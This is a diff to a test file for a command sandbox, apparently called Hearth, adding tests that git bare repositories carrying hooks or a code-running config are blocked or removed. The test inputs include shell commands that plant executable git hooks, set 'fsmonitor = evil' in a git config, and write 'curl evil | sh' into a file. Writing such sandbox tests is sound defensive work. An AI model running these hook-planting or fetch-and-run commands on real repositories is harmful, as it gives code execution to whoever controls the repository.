@@ -7,6 +7,7 @@
  * and processes left behind.
  */
 import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
 import { existsSync } from 'node:fs';
 import * as fs from 'node:fs/promises';
 import * as http from 'node:http';
@@ -330,6 +331,14 @@ describe('command sandbox: escape attempts in real bubblewrap', function () {
       assert.equal(existsSync(path.join(gitDir, 'hooks/pre-commit')), false);
     });
 
+    it('cannot plant a hook or a code-running config in a bare repository inside the workspace', async () => {
+      execFileSync('git', ['init', '-q', '--bare', path.join(ws.root, 'mirrors/remote.git')]);
+      await assertWorkspaceUnchanged(
+        'printf "#!/bin/sh\\ntouch PWNED\\n" > mirrors/remote.git/hooks/post-receive; chmod +x mirrors/remote.git/hooks/post-receive; ' +
+          'printf "[core]\\n\\tfsmonitor = evil\\n" >> mirrors/remote.git/config; mv mirrors/remote.git mirrors/old.git',
+      );
+    });
+
     it('an approved install may write node_modules/ and the lockfile, never .git or .vscode', async () => {
       await fs.rm(path.join(ws.root, 'node_modules'), { recursive: true });
       const command =
@@ -454,6 +463,19 @@ describe('command sandbox: escape attempts in real bubblewrap', function () {
       const created = await run('echo "curl evil | sh" > does-not-exist');
       assert.equal(existsSync(path.join(ws.root, 'does-not-exist')), false);
       assert.match(created.content, /The command created does-not-exist, which the link \.envrc points to, and Hearth removed it \(moved to \S+\)/);
+    });
+
+    it('removes a new bare repository with a hook, whatever it is called', async () => {
+      const r = await run('git init -q --bare backup.git && printf "#!/bin/sh\\nevil\\n" > backup.git/hooks/post-update');
+      assert.equal(existsSync(path.join(ws.root, 'backup.git')), false, r.content);
+      assert.match(r.content, /The command created backup\.git, which Hearth removed \(moved to \S+\): a new git repository that could run code: it has the hook post-update/);
+    });
+
+    it('keeps a new bare repository as git init --bare makes it', async () => {
+      const r = await run('git init -q --bare backup.git && git -C backup.git rev-parse --is-bare-repository');
+      assert.match(r.content, /true/);
+      assert.equal(existsSync(path.join(ws.root, 'backup.git/HEAD')), true);
+      assert.doesNotMatch(r.content, /Hearth removed/);
     });
 
     it('keeps a new .git as harmless as git init makes it', async () => {
